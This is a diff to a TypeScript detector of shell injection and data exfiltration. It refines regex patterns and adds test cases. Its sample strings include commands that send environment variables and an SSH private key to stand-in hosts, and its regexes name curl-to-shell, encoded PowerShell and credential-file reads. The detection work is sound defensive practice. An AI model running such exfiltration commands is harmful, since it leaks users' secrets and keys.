@@ -5,6 +5,9 @@ import { gate } from './gate.ts'
 /** Commands that reveal data to an attacker or give control of the machine. */
 const PROBE =
   '(?:whoami|id|uname(?: -[a-z]+)?|ifconfig|ipconfig(?: /all)?|netstat(?: -[a-z]+)?|systeminfo|sysinfo|reboot|shutdown|nid|hostname|pwd|set|env|ps(?: -?[a-z]+)?|ver|tasklist|ls(?: -[a-z]+)?|dir)'
+/** Those that a script of one line seldom is. */
+const RARE_PROBE =
+  '(?:whoami|id|uname(?: -[a-z]+)?|ifconfig|ipconfig(?: /all)?|netstat(?: -[a-z]+)?|systeminfo|sysinfo|reboot|shutdown|nid|tasklist)'
 
 /** Commands and code smuggled in to be run. */
 export const SHELL_PATTERNS: readonly Pattern[] = [
@@ -33,7 +36,8 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       '\\b(?:curl|wget)\\b[^|\\n]{0,40}(?:http://|\\b(?:evil|attacker|malicious|hacker|pwn)[a-z0-9.-]*|//\\d{1,3}\\.\\d{1,3}\\.)[^|\\n]{0,100}\\| ?(?:sudo )?(?:ba|z|da|k)?sh\\b',
       '\\bpowershell(?:\\.exe)?\\b.{0,80}(?: -enc?(?:odedcommand)? |-w(?:indowstyle)? hidden|downloadstring|frombase64string|\\biex\\b)',
       '\\biex ?\\(',
-      '\\bcurl\\b[^\\n]{0,80}(?:\\$\\((?:env|cat|whoami|id|printenv|ls)|`(?:env|cat|whoami|id)\\b|@/etc/|@~/\\.|=\\$\\(|\\$\\{?(?:aws|openai|secret|token|api ?key|password))',
+      '\\bcurl\\b[^\\n]{0,80}(?:\\$\\((?:env|cat|whoami|id|printenv|ls)|`(?:env|cat|whoami|id)\\b|@/etc/|@~/\\.|=\\$\\()',
+      '\\bcurl\\b[^\\n]{0,80}(?:-d|-f|--data[a-z-]*|--form|[?&][a-z]*=)[^\\n]{0,20}\\$\\{?(?:aws|openai|secret|token|api ?key|password)',
       '\\b(?:env|printenv|cat [^|\\n]{2,40}) ?\\| ?(?:base64 ?\\| ?)?(?:curl|nc|wget)\\b',
       '\\bcurl\\b[^\\n]{0,40}\\b(?:evil|attacker|malicious|hacker)[a-z0-9-]*\\.',
     ),
@@ -43,7 +47,11 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       'curl -d "$(env)" https://x.example',
       'cat ~/.ssh/id_rsa | base64 | curl -F f=@- x.example',
     ],
-    misses: ['curl https://api.example/v1', 'curl -fsSL https://get.example.com | sh'],
+    misses: [
+      'curl -H "Authorization: Bearer ${TOKEN}" https://api.example/v1',
+      'curl https://api.example/v1',
+      'curl -fsSL https://get.example.com | sh',
+    ],
   },
   {
     name: 'destructive_command',
@@ -114,7 +122,8 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
     category: 'shell_injection',
     description: 'A short value that breaks out into a shell command.',
     expression: anyOf(
-      `(?:[;|&\`\\n]|\\$\\() ?(?:/usr)?(?:/s?bin/)?(?:\\$\\{ifs\\})?${PROBE} ?[)\`|;&"'#\\\\]{0,3} ?(?:[nr]?$)`,
+      `(?:[;|&\`]|\\$\\() ?(?:/usr)?(?:/s?bin/)?(?:\\$\\{ifs\\})?${PROBE} ?[)\`|;&"'#\\\\]{0,3} ?(?:[nr]?$)`,
+      `\\n ?(?:/usr)?(?:/s?bin/)?${RARE_PROBE} ?[)\`|;&"'#\\\\]{0,3} ?(?:[nr]?$)`,
       `(?:[;|&\`\\n]|\\$\\() ?(?:/usr)?(?:/s?bin/)?(?:cat|ls|dir|type|less|head|tail|more|grep|find)\\b.{0,24}(?:/etc\\b|/var/www|/root|c:\\\\|%systemroot%|/proc/)`,
       `(?:[;|&\`]|\\$\\() ?(?:/usr)?(?:/s?bin/)?(?:cat|ls|dir|type|less|head|tail|more|grep|find)\\b.{0,24}(?:/home/|/usr/)`,
       `(?:[;|&]|%0a|\\n) ?(?:ping (?:-[cnit] ?\\d|127\\.)|sleep \\d|wget https?:|curl https?:|nc -|ncat |perl -e|python3? -c|php -r|bash -[ci]|sh -[ci]|cmd /c|powershell|net (?:user|localgroup|view|share)|reg (?:add|query|save)|echo (?:["']?<|vulnerable|injectx)|which (?:nc|netcat|wget|curl|python))`,
@@ -132,6 +141,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       'cats & dogs',
       'a; b; c',
       'Tom; please type it up',
+      '#!/bin/bash\n\nls -lS',
       'count=3\necho $count',
       'echo sizes\nls -lS /home/ana',
     ],
